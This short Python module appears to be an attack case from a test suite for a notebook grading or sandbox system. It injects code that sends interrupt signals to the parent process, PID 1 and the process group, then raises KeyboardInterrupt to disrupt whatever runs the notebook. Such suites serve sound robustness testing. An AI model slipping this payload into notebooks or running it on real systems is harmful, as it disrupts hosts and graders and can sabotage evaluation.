"""Interrupts its parent and itself."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os, signal
for pid in (os.getppid(), 1, 0):
    try: os.kill(pid, signal.SIGINT)
    except OSError as error: print(error)
raise KeyboardInterrupt
""",
    )
